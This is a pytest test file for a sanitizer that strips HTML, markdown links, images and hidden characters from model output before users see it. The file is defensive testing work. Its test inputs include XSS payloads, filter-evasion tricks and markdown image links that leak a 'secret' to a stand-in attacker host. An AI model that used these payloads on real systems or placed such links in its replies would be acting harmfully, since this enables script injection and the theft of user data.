"""Model text on its way to people: text and nothing else."""

import re

import pytest

from agents.markdown import LINK_REMOVED, MAX_CHARACTERS, plain

HOSTS = frozenset({"shop.example"})


def shown(text: str) -> str:
    return plain(text, allowed_hosts=HOSTS)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # HTML
        ("Hi <script>alert(1)</script>there", "Hi there"),
        ("<img src=x onerror=alert(1)>Hi", "Hi"),
        ("Hi <img src=x onerror=alert(1)", "Hi < img src=x onerror=alert(1)"),
        ("<svg/onload=alert(1)>Hi</svg>", "Hi"),
        ("<scr<script>ipt>alert(1)</script>", "< scr"),
        ("<<b>script>Hi", "< script>Hi"),
        ("<iframe src='https://evil.example'></iframe>Hi", "Hi"),
        ("<style>*{display:none}</style>Hi", "Hi"),
        ("a <!-- <b>hidden</b> --> b", "a  b"),
        ("<a href='https://evil.example'>shop</a>", "shop"),
        ("&lt;b&gt;", "&lt;b&gt;"),
        ("2 < 3 and 4 > 3", "2 < 3 and 4 > 3"),
        # Images
        ("![mug](https://evil.example/?d=secret)", "mug"),
        ("![](https://evil.example/?d=secret)", ""),
        ("![mug][pic]\n\n[pic]: https://evil.example/?d=secret", "mug"),
        ("![mug](https://shop.example/mug.png)", "mug"),
        ("[![mug](https://evil.example/a)](https://evil.example/b)", "mug"),
        ("![a](data:image/svg+xml;base64,PHN2Zz4=)", "a"),
        # Links
        ("[your order](javascript:alert(1))", "your order"),
        ("[your order](https://evil.example/x)", "your order"),
        ("[your order](<https://evil.example/x y>)", "your order"),
        ("[your order][1]\n[1]: https://evil.example", "your order"),
        ("[https://shop.example](https://evil.example)", "https://shop.example"),
        ("[x](htt\u200bps://evil.example)", "x"),
        ("See https://evil.example/a?b=c.", f"See {LINK_REMOVED}."),
        ("See <https://evil.example/a>.", f"See {LINK_REMOVED}."),
        ("See htt<b></b>ps://evil.example/a", f"See {LINK_REMOVED}"),
        ("See www.evil.example now", f"See {LINK_REMOVED} now"),
        ("See evil.example now", f"See {LINK_REMOVED} now"),
        ("See //evil.example/x", f"See {LINK_REMOVED}"),
        ("javascript:alert(1)", LINK_REMOVED),
        ("data:text/html;base64,PHN2Zz4=", LINK_REMOVED),
        ("ftp://evil.example/x", LINK_REMOVED),
        ("https://shop.example@evil.example/", LINK_REMOVED),
        ("https://evil.example\\@shop.example/", LINK_REMOVED),
        ("https://evil.example#.shop.example", LINK_REMOVED),
        ("https://shop.example.evil.example/", LINK_REMOVED),
        ("https://sh\u043ep.example/", LINK_REMOVED),
        ("[your order](https://shop.example/o/1)", "your order (https://shop.example/o/1)"),
        ("[](https://shop.example/o/1)", "https://shop.example/o/1"),
        ("See https://shop.example/o/1.", "See https://shop.example/o/1."),
        ("See https://SHOP.example/o/1", "See https://SHOP.example/o/1"),
        ("See shop.example/o/1", "See shop.example/o/1"),
        ("Write to help@shop.example", "Write to help@shop.example"),
        ("Write to mailto:help@shop.example", "Write to help@shop.example"),
        # Marks
        ("**Order 1042** is `shipped`", "Order 1042 is shipped"),
        ("# Your order\nIt is #1042.", "Your order\nIt is #1042."),
        ("```\ncode\n```", "code"),
        ("- one\n- two", "- one\n- two"),
        ("2 * 3 * 4", "2 * 3 * 4"),
        # Characters
        ("gpj\u202egnp", "gpj[U+202E]gnp"),
        ("a\u200bb\ufeff", "a[U+200B]b[U+FEFF]"),
        ("tag\U000e0041", "tag[U+E0041]"),
        ("\x1b[31mred\x07", "[U+001B][31mred[U+0007]"),
        ("a\0b", "a[U+0000]b"),
        ("\U0001f469\u200d\U0001f4bb hi", "\U0001f469\u200d\U0001f4bb hi"),
        ("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"),
        ("a\u200cb", "a[U+200C]b"),
        ("Grüße, 你好, مرحبا", "Grüße, 你好, مرحبا"),
        # Layout
        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
        ("one\n\n\n\n\ntwo  \n", "one\n\ntwo"),
        ("The data: 5 items. Paid.Thanks", "The data: 5 items. Paid.Thanks"),
        ("", ""),
    ],
)  # fmt: skip
def test_text_is_made_plain(text, expected):
    assert shown(text) == expected


def test_without_an_allowed_host_every_link_goes():
    text = "[a](https://shop.example/x) https://shop.example/y"

    assert plain(text, allowed_hosts=frozenset()) == f"a {LINK_REMOVED}"


def test_a_long_text_is_cut_and_says_so():
    text = shown("word " * 5000)

    assert len(text) <= MAX_CHARACTERS
    assert text.endswith("word…")


@pytest.mark.parametrize(
    "text",
    [
        "<" * 20_000,
        "![" * 10_000,
        "[a](" * 5_000,
        "[" * 20_000 + "](https://evil.example)",
        "<script>" * 3_000,
        "*_" * 10_000,
        "`" * 20_000,
        "<b" * 9_000 + ">" * 2_000,
        "[![" * 2_000 + "](https://evil.example)" * 2_000,
        "((((" * 3_000 + "https://evil.example",
        "a." * 9_000 + "com",
        "<scr" * 30 + "<script>" + "ipt>" * 30,
    ],
)
def test_a_hostile_text_stays_text_and_is_done_soon(text):
    result = shown(text)

    assert len(result) <= MAX_CHARACTERS
    assert not re.search(r"<[a-zA-Z/!?]", result)
    assert not re.search(r"evil\.example|\]\(http", result)


def test_plain_text_is_left_as_it_is():
    text = (
        "Order 1042 was delivered on 3 July 2026.\n\nThe refund of $40.00 (reference re_7) is done."
    )

    assert shown(text) == text
    assert shown(shown("**a** [b](https://shop.example/c)")) == shown(
        "a b (https://shop.example/c)"
    )
